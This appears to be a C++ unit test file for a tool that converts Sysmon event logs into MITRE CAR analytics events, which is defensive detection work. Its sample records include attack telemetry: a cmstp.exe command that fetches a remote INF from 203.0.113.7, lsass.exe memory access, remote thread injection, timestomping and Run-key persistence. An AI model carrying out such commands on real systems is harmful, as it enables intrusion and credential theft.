// Sysmon -> CAR mapping, one case per event id. Field names and value forms
// are those Sysmon writes (schema 4.x as rendered by evtxexport); the CAR
// names are those of shared/car/data_model and docs/data-model.md.
#include <map>

#include "car/normalizer.hpp"
#include "catch.hpp"

using namespace evtxcar;

namespace {

event_record sysmon_record(std::uint32_t event_id, std::vector<payload_field> fields,
                           std::string computer = "WS01.corp.example.com") {
    event_record record;
    record.provider_name = "Microsoft-Windows-Sysmon";
    record.channel = "Microsoft-Windows-Sysmon/Operational";
    record.event_id = event_id;
    record.computer = std::move(computer);
    record.record_id = 4242;
    record.time_created = 133800000000000000ULL;
    record.file_offset = 0x1200;
    record.kind = payload_kind::event_data;
    record.fields = std::move(fields);
    return record;
}

car_event normalize(const event_record& record) {
    const auto normalizers = make_normalizers();
    for (const auto& normalizer : normalizers) {
        if (normalizer->provider() != record.provider_name) continue;
        car_event event;
        std::string problem;
        REQUIRE(normalizer->normalize(record, event, problem));
        CHECK(problem.empty());
        return event;
    }
    FAIL("no normalizer for " << record.provider_name);
    return {};
}

std::map<std::string, std::string> fields_of(const car_event& event) {
    std::map<std::string, std::string> fields;
    for (const car_value& value : event.values) fields.emplace(std::string(name_of(value.field)), value.text);
    return fields;
}

}  // namespace

TEST_CASE("sysmon 1 becomes process/create with parent and hashes", "[car][sysmon]") {
    const car_event event = normalize(sysmon_record(
        1, {{"RuleName", "-"},
            {"UtcTime", "2026-03-02 09:15:01.123"},
            {"ProcessGuid", "{5E8A1F3C-1111-6600-0000-0010AAAA0001}"},
            {"ProcessId", "4242"},
            {"Image", "C:\\Windows\\System32\\cmstp.exe"},
            {"FileVersion", "7.2.19041.1"},
            {"Description", "Microsoft Connection Manager Profile Installer"},
            {"Product", "Microsoft Windows Operating System"},
            {"Company", "Microsoft Corporation"},
            {"OriginalFileName", "CMSTP.EXE"},
            {"CommandLine", "cmstp.exe /ni /s https://203.0.113.7/x.inf"},
            {"CurrentDirectory", "C:\\Users\\bob\\"},
            {"User", "CORP\\bob"},
            {"LogonGuid", "{5E8A1F3C-0000-6600-0000-0020E7030000}"},
            {"LogonId", "0x3e7"},
            {"TerminalSessionId", "1"},
            {"IntegrityLevel", "Medium"},
            {"Hashes", "SHA1=AAAA,MD5=BBBB,SHA256=CCCC,IMPHASH=DDDD"},
            {"ParentProcessGuid", "{5E8A1F3C-1111-6600-0000-0010AAAA0000}"},
            {"ParentProcessId", "4100"},
            {"ParentImage", "C:\\Windows\\System32\\cmd.exe"},
            {"ParentCommandLine", "cmd.exe /c cmstp.exe /ni /s https://203.0.113.7/x.inf"}}));
    CHECK(event.object == "process");
    CHECK(event.action == "create");
    const auto f = fields_of(event);
    CHECK(f.at("hostname") == "WS01");
    CHECK(f.at("fqdn") == "WS01.corp.example.com");
    CHECK(f.at("image_path") == "C:\\Windows\\System32\\cmstp.exe");
    CHECK(f.at("exe") == "cmstp.exe");
    CHECK(f.at("pid") == "4242");
    CHECK(f.at("ppid") == "4100");
    CHECK(f.at("guid") == "{5E8A1F3C-1111-6600-0000-0010AAAA0001}");
    CHECK(f.at("parent_guid") == "{5E8A1F3C-1111-6600-0000-0010AAAA0000}");
    CHECK(f.at("command_line") == "cmstp.exe /ni /s https://203.0.113.7/x.inf");
    CHECK(f.at("parent_image_path") == "C:\\Windows\\System32\\cmd.exe");
    CHECK(f.at("parent_exe") == "cmd.exe");
    CHECK(f.at("parent_command_line") == "cmd.exe /c cmstp.exe /ni /s https://203.0.113.7/x.inf");
    CHECK(f.at("current_working_directory") == "C:\\Users\\bob\\");
    CHECK(f.at("user") == "CORP\\bob");
    CHECK(f.count("sid") == 0);  // Sysmon does not log the user's SID
    CHECK(f.at("integrity_level") == "Medium");
    CHECK(f.at("original_file_name") == "CMSTP.EXE");
    CHECK(f.at("sha1_hash") == "AAAA");
    CHECK(f.at("md5_hash") == "BBBB");
    CHECK(f.at("sha256_hash") == "CCCC");
    CHECK(f.at("imphash") == "DDDD");
    CHECK(f.at("utc_time") == "2026-03-02 09:15:01.123");
    CHECK(f.count("rule_name") == 0);  // "-" is Sysmon's "no rule"
    CHECK(event.time == 133800000000000000ULL);
    CHECK(event.record_id == 4242);
    CHECK(event.record_offset == 0x1200);
    CHECK(event.event_id == 1);
    CHECK(event.channel == "Microsoft-Windows-Sysmon/Operational");
    CHECK(event.provider == "Microsoft-Windows-Sysmon");
}

TEST_CASE("sysmon 1 of an old schema leaves the missing fields empty, not shifted", "[car][sysmon]") {
    // Schema without RuleName, FileVersion..OriginalFileName (seen in real logs).
    const car_event event = normalize(sysmon_record(
        1, {{"UtcTime", "2017-12-26 13:10:29.134"}, {"ProcessGuid", "{94F748D5-4A45-5A42-0000-0010D265F20F}"},
            {"ProcessId", "9112"}, {"Image", "C:\\Windows\\SysWOW64\\PING.EXE"}, {"CommandLine", "ping  -n 6 127.0.0.1 "},
            {"CurrentDirectory", "C:\\Windows\\Temp\\"}, {"User", "NT AUTHORITY\\SYSTEM"},
            {"IntegrityLevel", "System"}, {"Hashes", "SHA1=CE8E487CB76704FE5FBB821A78A1E969EFBE71F9"},
            {"ParentProcessId", "8392"}, {"ParentImage", "C:\\Windows\\SysWOW64\\cmd.exe"}},
        "DESKTOP-2KGM189"));
    const auto f = fields_of(event);
    CHECK(f.at("hostname") == "DESKTOP-2KGM189");
    CHECK(f.count("fqdn") == 0);
    CHECK(f.at("command_line") == "ping  -n 6 127.0.0.1 ");
    CHECK(f.at("sid") == "S-1-5-18");  // the built-in account is known by name
    CHECK(f.at("sha1_hash") == "CE8E487CB76704FE5FBB821A78A1E969EFBE71F9");
    CHECK(f.count("md5_hash") == 0);
    CHECK(f.count("original_file_name") == 0);
    CHECK(f.count("parent_command_line") == 0);
    CHECK(f.count("parent_guid") == 0);
}

TEST_CASE("sysmon 3 becomes flow/start with direction from Initiated", "[car][sysmon]") {
    auto record = sysmon_record(3, {{"RuleName", "-"}, {"UtcTime", "2026-03-02 09:15:02.001"},
                                    {"ProcessGuid", "{5E8A1F3C-1111-6600-0000-0010AAAA0001}"}, {"ProcessId", "4242"},
                                    {"Image", "C:\\Windows\\System32\\cmstp.exe"}, {"User", "CORP\\bob"},
                                    {"Protocol", "tcp"}, {"Initiated", "true"}, {"SourceIsIpv6", "false"},
                                    {"SourceIp", "10.20.30.40"}, {"SourceHostname", "WS01.corp.example.com"},
                                    {"SourcePort", "49732"}, {"SourcePortName", "-"}, {"DestinationIsIpv6", "false"},
                                    {"DestinationIp", "203.0.113.7"}, {"DestinationHostname", "-"},
                                    {"DestinationPort", "443"}, {"DestinationPortName", "https"}});
    car_event event = normalize(record);
    CHECK(event.object == "flow");
    CHECK(event.action == "start");
    auto f = fields_of(event);
    CHECK(f.at("transport_protocol") == "TCP");
    CHECK(f.at("network_direction") == "outbound");
    CHECK(f.at("src_ip") == "10.20.30.40");
    CHECK(f.at("src_port") == "49732");
    CHECK(f.at("src_hostname") == "WS01.corp.example.com");
    CHECK(f.at("dest_ip") == "203.0.113.7");
    CHECK(f.at("dest_port") == "443");
    CHECK(f.at("dest_hostname") == "-");
    CHECK(f.at("exe") == "cmstp.exe");
    CHECK(f.at("user") == "CORP\\bob");
    record.fields[7].value = "false";
    CHECK(fields_of(normalize(record)).at("network_direction") == "inbound");
}

TEST_CASE("sysmon 2, 11, 15, 23, 26 become file events", "[car][sysmon]") {
    const std::vector<payload_field> common = {{"ProcessGuid", "{G}"}, {"ProcessId", "77"},
                                               {"Image", "C:\\Tools\\x.exe"}, {"TargetFilename", "C:\\Temp\\a.dll"}};
    auto with = [&common](std::vector<payload_field> extra) {
        auto fields = common;
        fields.insert(fields.end(), extra.begin(), extra.end());
        return fields;
    };
    auto timestomp = normalize(sysmon_record(2, with({{"CreationUtcTime", "2020-01-01 00:00:00.000"},
                                                      {"PreviousCreationUtcTime", "2026-03-02 09:00:00.000"}})));
    CHECK(timestomp.object == "file");
    CHECK(timestomp.action == "timestomp");
    CHECK(fields_of(timestomp).at("creation_time") == "2020-01-01 00:00:00.000");
    CHECK(fields_of(timestomp).at("previous_creation_time") == "2026-03-02 09:00:00.000");
    CHECK(fields_of(timestomp).at("file_path") == "C:\\Temp\\a.dll");

    auto create = normalize(sysmon_record(11, with({{"CreationUtcTime", "2026-03-02 09:00:00.000"}})));
    CHECK(create.action == "create");
    CHECK(fields_of(create).at("file_path") == "C:\\Temp\\a.dll");
    CHECK(fields_of(create).at("image_path") == "C:\\Tools\\x.exe");
    CHECK(fields_of(create).at("pid") == "77");

    auto stream = normalize(sysmon_record(15, with({{"Hash", "MD5=11,SHA256=22"}, {"Contents", "[ZoneTransfer]"}})));
    CHECK(stream.action == "create_stream_hash");
    CHECK(fields_of(stream).at("md5_hash") == "11");
    CHECK(fields_of(stream).at("sha256_hash") == "22");
    CHECK(fields_of(stream).at("stream_hash_contents") == "[ZoneTransfer]");

    for (std::uint32_t id : {23u, 26u}) {
        auto deleted = normalize(sysmon_record(id, with({{"Hashes", "SHA1=33"}, {"IsExecutable", "true"}})));
        CHECK(deleted.object == "file");
        CHECK(deleted.action == "delete");
        CHECK(fields_of(deleted).at("sha1_hash") == "33");
        CHECK(fields_of(deleted).at("is_executable") == "true");
    }
}

TEST_CASE("sysmon 5 becomes process/terminate", "[car][sysmon]") {
    auto event = normalize(sysmon_record(5, {{"ProcessGuid", "{G}"}, {"ProcessId", "9"}, {"Image", "C:\\a\\b.exe"}}));
    CHECK(event.object == "process");
    CHECK(event.action == "terminate");
    CHECK(fields_of(event).at("exe") == "b.exe");
}

TEST_CASE("sysmon 6 and 7 become driver/load and module/load with signatures", "[car][sysmon]") {
    auto driver = normalize(sysmon_record(6, {{"ImageLoaded", "C:\\Windows\\System32\\drivers\\x.sys"},
                                              {"Hashes", "SHA256=AB"},
                                              {"Signed", "true"},
                                              {"Signature", "Example Corp"},
                                              {"SignatureStatus", "Valid"}}));
    CHECK(driver.object == "driver");
    CHECK(driver.action == "load");
    CHECK(fields_of(driver).at("image_path") == "C:\\Windows\\System32\\drivers\\x.sys");
    CHECK(fields_of(driver).at("signer") == "Example Corp");
    CHECK(fields_of(driver).at("signature_valid") == "true");
    CHECK(fields_of(driver).at("sha256_hash") == "AB");

    auto module = normalize(sysmon_record(7, {{"ProcessGuid", "{G}"}, {"ProcessId", "5"}, {"Image", "C:\\a\\host.exe"},
                                              {"ImageLoaded", "C:\\a\\evil.dll"}, {"Hashes", "MD5=CD"},
                                              {"Signed", "false"}, {"Signature", "-"}, {"SignatureStatus", "Unavailable"}}));
    CHECK(module.object == "module");
    CHECK(module.action == "load");
    CHECK(fields_of(module).at("module_path") == "C:\\a\\evil.dll");
    CHECK(fields_of(module).at("image_path") == "C:\\a\\host.exe");
    CHECK(fields_of(module).at("signature_valid") == "false");
    CHECK(fields_of(module).at("md5_hash") == "CD");

    // Signed but expired is not valid.
    auto expired = normalize(sysmon_record(7, {{"Signed", "true"}, {"SignatureStatus", "Expired"}}));
    CHECK(fields_of(expired).at("signature_valid") == "false");
}

TEST_CASE("sysmon 8 becomes thread/remote_create", "[car][sysmon]") {
    auto event = normalize(sysmon_record(8, {{"SourceProcessGuid", "{S}"}, {"SourceProcessId", "100"},
                                             {"SourceImage", "C:\\x\\inject.exe"}, {"TargetProcessGuid", "{T}"},
                                             {"TargetProcessId", "200"}, {"TargetImage", "C:\\Windows\\explorer.exe"},
                                             {"NewThreadId", "300"}, {"StartAddress", "0x00007FF6A1B2C3D4"},
                                             {"StartModule", "-"}, {"StartFunction", "-"}}));
    CHECK(event.object == "thread");
    CHECK(event.action == "remote_create");
    const auto f = fields_of(event);
    CHECK(f.at("src_pid") == "100");
    CHECK(f.at("pid") == "100");
    CHECK(f.at("tgt_pid") == "200");
    CHECK(f.at("tgt_tid") == "300");
    CHECK(f.at("guid") == "{S}");
    CHECK(f.at("target_guid") == "{T}");
    CHECK(f.at("target_image_path") == "C:\\Windows\\explorer.exe");
    CHECK(f.at("start_address") == "0x00007FF6A1B2C3D4");
    CHECK(f.at("exe") == "inject.exe");
}

TEST_CASE("sysmon 10 becomes process/access", "[car][sysmon]") {
    auto event = normalize(sysmon_record(10, {{"SourceProcessGUID", "{S}"}, {"SourceProcessId", "100"},
                                              {"SourceThreadId", "101"}, {"SourceImage", "C:\\x\\dump.exe"},
                                              {"TargetProcessGUID", "{T}"}, {"TargetProcessId", "600"},
                                              {"TargetImage", "C:\\Windows\\system32\\lsass.exe"},
                                              {"GrantedAccess", "0x1010"}, {"CallTrace", "C:\\x\\ntdll.dll+9d4c4"}}));
    CHECK(event.object == "process");
    CHECK(event.action == "access");
    const auto f = fields_of(event);
    CHECK(f.at("guid") == "{S}");
    CHECK(f.at("pid") == "100");
    CHECK(f.at("tid") == "101");
    CHECK(f.at("target_guid") == "{T}");
    CHECK(f.at("target_pid") == "600");
    CHECK(f.at("target_image_path") == "C:\\Windows\\system32\\lsass.exe");
    CHECK(f.at("access_level") == "0x1010");
    CHECK(f.at("call_trace") == "C:\\x\\ntdll.dll+9d4c4");
}

TEST_CASE("sysmon 12, 13, 14 become registry events split into hive, key and value", "[car][sysmon]") {
    auto add = normalize(sysmon_record(12, {{"EventType", "CreateKey"},
                                            {"TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"}}));
    CHECK(add.object == "registry");
    CHECK(add.action == "add");
    CHECK(fields_of(add).at("hive") == "HKLM");
    CHECK(fields_of(add).at("key") == "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
    CHECK(fields_of(add).count("value") == 0);

    auto remove = normalize(sysmon_record(12, {{"EventType", "DeleteValue"},
                                               {"TargetObject", "HKU\\S-1-5-21-1\\Software\\Run\\Updater"}}));
    CHECK(remove.action == "remove");
    CHECK(fields_of(remove).at("hive") == "HKU");
    CHECK(fields_of(remove).at("key") == "S-1-5-21-1\\Software\\Run");
    CHECK(fields_of(remove).at("value") == "Updater");

    auto edit = normalize(sysmon_record(13, {{"EventType", "SetValue"},
                                             {"TargetObject", "HKLM\\System\\CurrentControlSet\\Services\\X\\Start"},
                                             {"Details", "DWORD (0x00000002)"}}));
    CHECK(edit.action == "value_edit");
    CHECK(fields_of(edit).at("key") == "System\\CurrentControlSet\\Services\\X");
    CHECK(fields_of(edit).at("value") == "Start");
    CHECK(fields_of(edit).at("data") == "DWORD (0x00000002)");

    auto rename = normalize(sysmon_record(14, {{"EventType", "RenameKey"},
                                               {"TargetObject", "HKLM\\SOFTWARE\\Old"},
                                               {"NewName", "HKLM\\SOFTWARE\\New"}}));
    CHECK(rename.action == "key_edit");
    CHECK(fields_of(rename).at("key") == "SOFTWARE\\Old");
    CHECK(fields_of(rename).at("new_content") == "HKLM\\SOFTWARE\\New");
}

TEST_CASE("sysmon registry paths in the kernel's form get the hive Security 4657's do", "[car][sysmon]") {
    // Some Sysmon builds log "\REGISTRY\MACHINE\..." (seen in real logs) instead of "HKLM\...".
    auto edit = normalize(sysmon_record(13, {{"EventType", "SetValue"},
                                             {"TargetObject", "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Run\\Updater"},
                                             {"Details", "C:\\x.exe"}}));
    CHECK(fields_of(edit).at("hive") == "HKLM");
    CHECK(fields_of(edit).at("key") == "SOFTWARE\\Microsoft\\Run");
    CHECK(fields_of(edit).at("value") == "Updater");
    auto user = normalize(sysmon_record(12, {{"EventType", "CreateKey"}, {"TargetObject", "\\registry\\user\\S-1-5-21-1\\Software"}}));
    CHECK(fields_of(user).at("hive") == "HKU");
    CHECK(fields_of(user).at("key") == "S-1-5-21-1\\Software");
    // Only whole path components count as a root.
    auto other = normalize(sysmon_record(12, {{"EventType", "CreateKey"}, {"TargetObject", "\\REGISTRY\\MACHINEX\\Key"}}));
    const auto other_fields = fields_of(other);
    CHECK((other_fields.count("hive") == 0 || other_fields.at("hive") != "HKLM"));
}

TEST_CASE("sysmon ids CAR does not model become evtxcar's own objects", "[car][sysmon]") {
    struct expectation {
        std::uint32_t id;
        const char* object;
        const char* action;
    };
    for (const expectation& e : {expectation{4, "sensor", "state_change"}, expectation{9, "file", "raw_access_read"},
                                 expectation{16, "sensor", "config_change"}, expectation{17, "pipe", "create"},
                                 expectation{18, "pipe", "connect"}, expectation{19, "wmi", "filter"},
                                 expectation{20, "wmi", "consumer"}, expectation{21, "wmi", "binding"},
                                 expectation{22, "dns", "query"}, expectation{24, "clipboard", "change"},
                                 expectation{25, "process", "tamper"}, expectation{27, "file", "block_executable"},
                                 expectation{28, "file", "block_shredding"},
                                 expectation{29, "file", "executable_detected"}, expectation{255, "sensor", "error"},
                                 expectation{31, "sysmon", "event_31"}}) {
        CAPTURE(e.id);
        const car_event event = normalize(sysmon_record(e.id, {{"Image", "C:\\a\\b.exe"}}));
        CHECK(event.object == e.object);
        CHECK(event.action == e.action);
    }
    auto dns = normalize(sysmon_record(22, {{"QueryName", "evil.example.com"}, {"QueryStatus", "0"},
                                            {"QueryResults", "::ffff:203.0.113.7;"}, {"Image", "C:\\a\\b.exe"}}));
    CHECK(fields_of(dns).at("query_name") == "evil.example.com");
    CHECK(fields_of(dns).at("query_results") == "::ffff:203.0.113.7;");
    auto pipe = normalize(sysmon_record(17, {{"PipeName", "\\msagent_12"}, {"Image", "C:\\a\\b.exe"}}));
    CHECK(fields_of(pipe).at("pipe_name") == "\\msagent_12");
}

TEST_CASE("records of other providers and without EventData are not normalized", "[car][sysmon]") {
    const auto normalizers = make_normalizers();
    REQUIRE_FALSE(normalizers.empty());
    REQUIRE(normalizers[0]->provider() == "Microsoft-Windows-Sysmon");
    event_record record = sysmon_record(1, {});
    record.kind = payload_kind::none;  // payload not decoded
    car_event event;
    std::string problem;
    CHECK_FALSE(normalizers[0]->normalize(record, event, problem));
}
